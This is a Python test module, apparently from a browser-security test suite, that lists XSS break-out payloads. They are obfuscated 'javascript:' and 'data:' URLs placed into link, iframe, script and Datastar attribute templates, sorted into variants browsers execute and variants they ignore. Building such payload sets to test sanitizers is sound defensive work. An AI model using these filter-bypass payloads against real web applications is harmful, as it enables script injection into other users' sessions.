r"""Break-outs of URLs: `javascript:` and `data:` in every disguise that a browser may undo."""

from browser.attacks.break_outs import IMAGE, RUN, RUN_ANYWHERE, BreakOut, as_break_outs

__all__ = ("url_break_outs",)

LINK = '<a href="VALUE">x</a>'
FRAME = '<iframe src="VALUE"></iframe>'
ANSWER = "<p data-init=\"@get('VALUE')\">x</p>"
CODE = '<script src="VALUE"></script>'
XHTML = "http://www.w3.org/1999/xhtml"

RUNNING = (
    f"javascript:{RUN}",
    f" \x01java\nscript:{RUN}",
    f"JavaScript:{RUN}",
    f"\t\r\n javascript:{RUN}",
    f"\x1f\x0c javascript:{RUN}",
    f"j\ta\nv\ra\tscript:{RUN}",
    f"javascript\t:{RUN}",
    f"javascript\r\n:{RUN}",
    f"javascript:\t{RUN}",
    f"javascript://x.example/%0A{RUN}",
    f"javascript://x\u2028{RUN}",
    f"javascript://x%E2%80%A9{RUN}",
    "javascript:%74op.PWNED=NUMBER",
    f"javascript:/*http://x.example/*/{RUN}",
    f"javascript:'<script>{RUN}</script>'",
    f"javascript:void({RUN})//#x",
    f"javascript:{RUN}//https://x.example/?a=b",
)
# Other schemes, or none: no browser of today runs them.
SLEEPING = (
    f"vbscript:{RUN}",
    f"\0javascript:{RUN}",
    f"java\0script:{RUN}",
    f"\xa0javascript:{RUN}",
    f"\u3000javascript:{RUN}",
    f"\u2028javascript:{RUN}",
    f"\N{ZERO WIDTH NO-BREAK SPACE}javascript:{RUN}",
    f"\u200bjavascript:{RUN}",
    f"java\xadscript:{RUN}",
    f"java\x0bscript:{RUN}",
    f"javascr\u0131pt:{RUN}",
    f"java\u017fcript:{RUN}",
    f"\uff4aavascript:{RUN}",
    f"%6Aavascript:{RUN}",
    f"javascript%3A{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script&#58;{RUN}",
    f"java\\u0073cript:{RUN}",
    f"//javascript:{RUN}",
    f"/javascript:{RUN}",
    f"?javascript:{RUN}",
    f"x:javascript:{RUN}",
    f"unsafe:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"jar:javascript:{RUN}!/",
    f"blob:javascript:{RUN}",
    f"filesystem:javascript:{RUN}",
    f"livescript:{RUN}",
    f"javascript {RUN}",
    f"x;javascript:{RUN}",
    f"#;javascript:{RUN};#",
    f"javascript:{RUN};javascript:{RUN}",
    f"javascript:{RUN} 1x, javascript:{RUN} 2x",
    f"0;url=javascript:{RUN}",
    f"0; URL = 'javascript:{RUN}'",
    f"0,javascript:{RUN}",
    f"0;url=data:text/html,<script>{RUN_ANYWHERE}</script>",
)
PAGE = f"<script>{RUN_ANYWHERE}</script>"
ENCODED = f"%3Cscript%3E{RUN_ANYWHERE}%3C/script%3E"  # beside a line break, a `<` loads nothing
SVG = f"<svg xmlns='http://www.w3.org/2000/svg'>{PAGE}</svg>"
DOCUMENTS = (
    f"data:text/html,{PAGE}",
    f"data:image/svg+xml,{SVG}",
    f"\n DATA:text/html,{PAGE}",
    f"d\ta\rt\na:text/html,{PAGE}",
    f"data: text/html ,{PAGE}",
    f"data:TEXT/HTML;charset=utf-8,{PAGE}",
    f"data:text/html;x=,{PAGE}",
    f"data:application/xhtml+xml,<html xmlns='{XHTML}'>{PAGE}</html>",
    f"data:text/xml,<html xmlns='{XHTML}'>{PAGE}</html>",
    f"data:application/xml,<html xmlns='{XHTML}'>{PAGE}</html>",
    f"data:application/rss+xml,<html xmlns='{XHTML}'>{PAGE}</html>",
    f"data:text/html,{ENCODED}",
    f"data:text/html,<svg onload={RUN_ANYWHERE.replace(chr(39), '`')}>",
)
SCRIPTS = (
    f"data:,{RUN_ANYWHERE}",
    f"data:text/javascript,{RUN_ANYWHERE}",
    f"data:text/plain,{RUN_ANYWHERE}",
    f"data:application/javascript;charset=utf-8,{RUN_ANYWHERE}",
    f"data:image/png,{RUN_ANYWHERE}",
    f"data:font/x,{RUN_ANYWHERE}",
    f"data:application/font-x,{RUN_ANYWHERE}",
    f"data:x,{RUN_ANYWHERE}",
    f"data:;charset=utf-8,{RUN_ANYWHERE}",
    f"data:application/json,{RUN_ANYWHERE}",
    f" Da\tta:,{RUN_ANYWHERE}",
)
# The client would take these for answers of the server. It puts the signals into the query.
ANSWERS = (
    f"data:text/javascript,{RUN}//",
    f"data:text/html,<body>{IMAGE}</body>",
    (
        "data:text/event-stream,event: datastar-patch-elements%0Adata: selector body%0A"
        f"data: mode append%0Adata: elements {IMAGE}%0A%0A"
    ),
    f"data:application/json,{{a:{RUN}/*?datastar=x&z=*/}}",
)
# Other browsers may take the first ones for documents.
SLEEPING_DATA = (
    f"data:text/ht\nml,{ENCODED}",
    f"data:\ttext/html,{ENCODED}",
    f"data:image/x+xml,<html xmlns='{XHTML}'>{PAGE}</html>",
    f"data:x/y+xml,<html xmlns='{XHTML}'>{PAGE}</html>",
    f"data:text/css,*{{background:url(javascript:{RUN})}}",
    f"data:text/csv,{RUN_ANYWHERE}",
    f"data:multipart/x-mixed-replace,{RUN_ANYWHERE}",
    f"data:application/pdf,{RUN_ANYWHERE}",
    f"data:text/x-scriptlet,{RUN_ANYWHERE}",
    f"data:text/vbscript,{RUN_ANYWHERE}",
    f"data:text/plain;text/html,{PAGE}",
    f"data:\0text/html,{PAGE}",
)


def url_break_outs() -> list[BreakOut]:
    """Return them all."""

    return [
        *as_break_outs("url", LINK, RUNNING, core=2),
        *as_break_outs("url", (), SLEEPING),
        *as_break_outs("url", FRAME, DOCUMENTS, core=2),
        *as_break_outs("url", CODE, SCRIPTS, core=1),
        *as_break_outs("url", ANSWER, ANSWERS),
        *as_break_outs("url", (), SLEEPING_DATA),
    ]
